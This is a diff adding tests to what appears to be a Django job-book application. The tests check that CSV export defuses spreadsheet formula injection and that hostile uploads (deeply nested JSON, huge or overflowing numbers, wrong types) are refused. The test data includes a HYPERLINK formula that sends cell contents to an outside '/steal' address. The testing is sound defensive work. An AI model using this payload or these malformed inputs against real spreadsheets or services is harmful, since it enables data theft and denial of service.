@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 
 import pytest
@@ -29,6 +31,41 @@ def test_json_export_then_import_gives_an_equal_book(penn_book, allegheny_book, 
 def test_csv_export_then_import_gives_an_equal_book(penn_book, allegheny_book, keystone_admin):
     source = selectors.published_version(penn_book)
     exported = interchange.export_csv(services.version_content(source))
+    draft = services.version_start_draft(job_book=allegheny_book, by=keystone_admin)
+    services.version_replace_content(version=draft, content=interchange.parse_book_file(exported.encode(), "a.csv"))
+    assert services.version_content(draft) == services.version_content(source)
+
+
+FORMULAS = ['=HYPERLINK("http://203.0.113.9/steal?d="&A1,"Open")', "+1 Lift safely", "-40 °F storage",
+            "@SUM(A1:A9)", "\tIndented", "\rReturned"]
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text():
+    content = [{
+        "key": "-k1", "name": FORMULAS[0], "description": FORMULAS[3], "target_hours": 100, "minimum_hours": None,
+        "skills": [{"key": "", "name": name, "description": ""} for name in FORMULAS[1:]],
+    }]
+    rows = list(csv.reader(io.StringIO(interchange.export_csv(content))))[1:]
+    cells = [cell for row in rows for cell in row if cell]
+    dangerous = [cell for cell in cells if cell.startswith(interchange.FORMULA_START)]
+    assert dangerous == []
+    assert rows[0][0] == "'" + FORMULAS[0] and rows[0][4] == "'@SUM(A1:A9)" and rows[0][6] == "'-k1"
+    assert [row[3] for row in rows] == ["'" + name for name in FORMULAS[1:]]
+    assert rows[0][1] == "100"  # numbers are numbers
+
+
+def test_a_book_with_formula_like_names_comes_back_unchanged_from_its_csv(penn_book, allegheny_book, keystone_admin):
+    source = services.version_start_draft(job_book=penn_book, by=keystone_admin)
+    services.version_replace_content(version=source, content=[
+        {"key": "-lead", "name": FORMULAS[0], "description": "=1+1 is two", "target_hours": 100,
+         "minimum_hours": 50, "skills": [
+             {"key": "", "name": "+ Add oil", "description": "@ the press"},
+             {"key": "", "name": "-40 °F storage", "description": ""},
+             {"key": "", "name": "'Tis the season: a quote of the author's own", "description": "'=not ours"},
+         ]},
+    ])
+    exported = interchange.export_csv(services.version_content(source))
+    assert "\n=" not in exported and ",=" not in exported and ",+" not in exported and ",@" not in exported
     draft = services.version_start_draft(job_book=allegheny_book, by=keystone_admin)
     services.version_replace_content(version=draft, content=interchange.parse_book_file(exported.encode(), "a.csv"))
     assert services.version_content(draft) == services.version_content(source)
@@ -127,3 +164,41 @@ def test_a_refused_import_through_the_page_leaves_the_database_unchanged(data, p
     assert response.status_code == 200
     assert response.context["form"].errors["file"]
     assert (services.version_content(draft), Competency.objects.count(), Skill.objects.count()) == before
+
+
+def _book_json(target_hours, skills="[]"):
+    return f'{{"competencies": [{{"name": "Safety", "target_hours": {target_hours}, "skills": {skills}}}]}}'.encode()
+
+
+HOSTILE = [
+    ("deeply nested JSON", b'{"competencies": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "book.json",
+     "nests lists and objects more than 8 deep"),
+    ("400-digit hours in JSON", _book_json("9" * 400), "book.json",
+     "field “target_hours”: 99999999999999999999… hours is more than the 3000"),
+    ("5,000-digit hours in JSON", _book_json("9" * 5000), "book.json", "hours is more than the 3000"),
+    ("1e999999 hours in JSON", _book_json("1e999999"), "book.json",
+     "field “target_hours”: 1e999999 hours is more than the 3000"),
+    ("skills that are a number in JSON", _book_json(10, skills="12"), "book.json", "field “skills”: expected a list"),
+    ("400-digit hours in CSV", (HEADER + "Safety," + "9" * 400 + ",,Wear PPE\n").encode(), "book.csv",
+     "Line 2, field “competency_hours”: 99999999999999999999… hours is more than the 3000"),
+]
+
+
+@pytest.mark.parametrize(("data", "filename", "message"), [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
+def test_a_hostile_file_is_refused_through_the_page_with_a_message_not_an_error_page(
+    data, filename, message, penn_book, world, client_for
+):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+    from django.urls import reverse
+
+    from imt.permissions import Role
+
+    draft = selectors.draft_version(penn_book)
+    before = services.version_content(draft)
+    client = client_for(world.user("keystone", Role.EMPLOYER_ADMIN))
+    response = client.post(
+        reverse("job_book_import", args=["keystone", penn_book.pk]), {"file": SimpleUploadedFile(filename, data)},
+    )
+    assert response.status_code == 200
+    assert any(message in error for error in response.context["form"].errors["file"]), response.context["form"].errors
+    assert services.version_content(draft) == before
